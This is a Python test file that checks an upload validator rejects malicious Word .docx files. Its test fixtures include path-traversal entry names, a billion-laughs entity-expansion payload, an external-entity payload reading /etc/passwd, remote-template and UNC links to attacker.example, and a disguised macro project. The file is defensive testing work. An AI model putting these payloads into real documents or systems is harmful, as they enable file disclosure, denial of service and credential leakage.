"""Uploads built to do harm are refused before anything is stored, whatever part they hide it in."""
from __future__ import annotations

import io
import time
import zipfile

import docx
import pytest

from tracker.documents.engine import compare
from tracker.documents.engine.checks import DocumentRejected, check_docx, check_template
from tracker.documents.engine.compare import clauses_of
from tracker.documents.engine.render import TemplateInvalid, prepare


def _members(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {info.filename: archive.read(info) for info in archive.infolist()}


def _with(data: bytes, **changes: bytes) -> bytes:
    """A copy of a .docx with members replaced or added (keys use __ for / and _dot_ for .)."""
    members = _members(data)
    for key, value in changes.items():
        members[key] = value
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return out.getvalue()


def _refusal(data: bytes) -> str:
    with pytest.raises(DocumentRejected) as refused:
        check_docx(data)
    return " | ".join(refused.value.problems)


@pytest.fixture
def plain(build):
    return build.paragraphs("Article 1 - Objet", "Le promoteur confie au centre la conduite de l'essai.")


@pytest.mark.parametrize("name, words", [
    ("../../evil.xml", "climbs out"),
    ("word/../../evil.xml", "climbs out"),
    ("/etc/cron.d/evil", "absolute path"),
    ("C:/Windows/evil.xml", "absolute path"),
    ("word\\..\\..\\evil.xml", "backslashes"),
    ("word/media/image 1.png", "not a normal part name"),
    ("word//document2.xml", "not a normal part name"),
    ("word/evil.", "not a normal part name"),
    ("word/\x1b[31mred.xml", "not a normal part name"),
])
def test_entry_names_that_could_escape_the_document_are_refused(plain, name, words):
    data = _with(plain, **{name: b"<x/>"})
    message = _refusal(data)
    assert words in message
    with pytest.raises(DocumentRejected):
        check_template(data)


def test_a_control_character_in_an_entry_name_is_shown_escaped(plain):
    message = _refusal(_with(plain, **{"word/\x1bname.xml": b"<x/>"}))
    assert "\\x1bname.xml" in message and "\x1b" not in message


def test_names_differing_only_by_case_are_refused(plain):
    assert "the same file twice" in _refusal(_with(plain, **{"WORD/document.xml": b"<x/>"}))


def test_folder_entries_are_accepted_and_left_out_of_agreements(plain, context):
    data = _with(plain, **{"word/": b"", "word/media/": b""})
    check_template(data)
    rendered = prepare(data).render(context())
    assert not [name for name in _members(rendered) if name.endswith("/")]


def test_a_stored_template_with_a_climbing_entry_never_reaches_an_agreement(plain):
    """A template stored before names were checked cannot be prepared, so nothing is generated from it."""
    with pytest.raises(TemplateInvalid) as refused:
        prepare(_with(plain, **{"../../evil.xml": b"<x/>"}))
    assert "climbs out" in refused.value.problems[0]


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
<!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
<!ENTITY lol9 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">]>
<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r>
<w:t>&lol9;</w:t></w:r></w:p></w:body></w:document>"""
EXTERNAL = b"""<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>
<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r>
<w:t>&x;</w:t></w:r></w:p></w:body></w:document>"""


@pytest.mark.parametrize("part", ["word/document.xml", "word/styles.xml", "_rels/.rels", "word/header1.xml"])
@pytest.mark.parametrize("xml", [BILLION_LAUGHS, EXTERNAL], ids=["entity-expansion", "external-entity"])
def test_a_doctype_in_any_part_is_refused(plain, part, xml):
    started = time.monotonic()
    message = _refusal(_with(plain, **{part: xml}))
    assert "DOCTYPE" in message and part in message
    assert time.monotonic() - started < 5  # refused, not expanded


@pytest.mark.parametrize("part", ["word/document.xml", "word/styles.xml", "[Content_Types].xml",
                                  "word/_rels/document.xml.rels"])
def test_a_part_that_is_not_xml_is_refused(plain, part):
    original = _members(plain)[part]
    broken = original.replace(b"</", b"<", 1) if part != "[Content_Types].xml" else original[:-20]
    message = _refusal(_with(plain, **{part: broken}))
    assert "not well-formed XML" in message or "damaged" in message or "content type" in message


def test_a_template_with_a_doctype_in_its_body_is_refused_where_it_is(plain):
    with pytest.raises(DocumentRejected) as refused:
        check_template(_with(plain, **{"word/document.xml": EXTERNAL}))
    assert "body: the XML declares a DOCTYPE" in refused.value.problems[0]


def test_a_comparison_refuses_documents_with_too_many_clauses(build, monkeypatch):
    monkeypatch.setattr(compare, "MAX_CLAUSES", 50)
    with pytest.raises(DocumentRejected) as refused:
        clauses_of(build.paragraphs(*[f"Clause {n}" for n in range(60)]))
    assert "more than 50 paragraphs" in refused.value.problems[0]


def test_the_real_agreements_pass_every_part_check(builtin):
    for name in ("coordinating_fr", "coordinating_en", "associated_fr", "associated_en"):
        check_docx(builtin(name))
        check_template(builtin(name))


def test_a_word_file_saved_by_python_docx_with_headers_passes(build):
    document = docx.Document()
    document.add_paragraph("Bonjour")
    document.sections[0].header.paragraphs[0].text = "En-tête"
    check_docx(build.save(document))


RELS = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>')
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def _relation(kind: str, target: str, mode: str = ' TargetMode="External"') -> str:
    return f'<Relationship Id="rId99" Type="{R}{kind}" Target="{target}"{mode}/>'


def _add_relation(data: bytes, part: str, relation: str) -> bytes:
    """Add a relationship to a part's .rels (created when the part has none)."""
    members = _members(data)
    folder, _, file = part.rpartition("/")
    rels = f"{folder}/_rels/{file}.rels" if folder else f"_rels/{file}.rels"
    if rels in members:
        members[rels] = members[rels].replace(b"</Relationships>", relation.encode() + b"</Relationships>")
    else:
        members[rels] = RELS.format(relation).encode()
    return _with(data, **members)


@pytest.mark.parametrize("part, relation, shown_part", [
    ("word/settings.xml", _relation("attachedTemplate", "https://attacker.example/t.dotm"), "word/settings.xml"),
    ("word/settings.xml", _relation("attachedTemplate", "\\\\attacker.example\\share\\t.dotm"), "word/settings.xml"),
    ("word/document.xml", _relation("oleObject", "file:///C:/secret/book.xlsx"), "word/document.xml"),
    ("word/document.xml", _relation("image", "http://tracker.example/pixel.png"), "word/document.xml"),
    ("word/document.xml", _relation("subDocument", "https://attacker.example/part.docx"), "word/document.xml"),
    ("word/document.xml", _relation("hyperlink", "\\\\attacker.example\\share"), "word/document.xml"),
    ("word/document.xml", _relation("hyperlink", "file://attacker.example/share"), "word/document.xml"),
])
def test_links_word_would_follow_by_itself_are_refused_naming_the_part(plain, part, relation, shown_part):
    refusal = _refusal(_add_relation(plain, part, relation))
    assert f"{shown_part} links to an outside" in refusal and "remove the link" in refusal, refusal


@pytest.mark.parametrize("check", ["document", "template"])
def test_a_remote_template_is_refused_from_templates_as_from_documents(build, check):
    data = _add_relation(build.paragraphs("Article 1 {{ sponsor.name }}"), "word/settings.xml",
                         _relation("attachedTemplate", "https://attacker.example/t.dotm"))
    with pytest.raises(DocumentRejected) as refused:
        check_docx(data) if check == "document" else check_template(data)
    assert "word/settings.xml links to an outside attachedTemplate (https://attacker.example/t.dotm)" in \
        refused.value.problems[0]


def test_ordinary_hyperlinks_and_internal_relations_are_kept(plain):
    data = _add_relation(plain, "word/document.xml", _relation("hyperlink", "https://www.gustaveroussy.fr/"))
    check_docx(data)


def test_a_macro_project_under_another_name_is_refused(plain):
    members = _members(plain)
    types = members["[Content_Types].xml"].replace(
        b"</Types>", b'<Override PartName="/word/notes.bin" ContentType="application/vnd.ms-office.vbaProject"/>'
                     b"</Types>")
    data = _add_relation(_with(plain, **{"[Content_Types].xml": types, "word/notes.bin": b"\xd0\xcf\x11\xe0 vba"}),
                         "word/document.xml", _relation("vbaProject", "notes.bin", mode=""))
    assert "contains macros" in _refusal(data)
    only_declared = _add_relation(plain, "word/document.xml",
                                  _relation("vbaProject", "notes.bin", mode="").replace("rId99", "rId98"))
    assert "contains macros" in _refusal(_with(only_declared, **{"word/notes.bin": b"x"}))


@pytest.mark.parametrize("body", [
    b'<?xml version="1.0"?><html><body><p>Article 1</p></body></html>',
    b'<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>',
])
@pytest.mark.parametrize("check", ["document", "template"])
def test_a_document_part_that_is_not_a_word_body_is_refused(plain, body, check):
    data = _with(plain, **{"word/document.xml": body})
    with pytest.raises(DocumentRejected) as refused:
        check_docx(data) if check == "document" else check_template(data)
    assert "word/document.xml does not hold a Word document body" in " | ".join(refused.value.problems)


def test_a_main_part_elsewhere_is_refused(plain):
    members = _members(plain)
    rels = members["_rels/.rels"].replace(b'Target="word/document.xml"', b'Target="word/other.xml"')
    refusal = _refusal(_with(plain, **{"_rels/.rels": rels, "word/other.xml": members["word/document.xml"]}))
    assert "main part is word/other.xml" in refusal
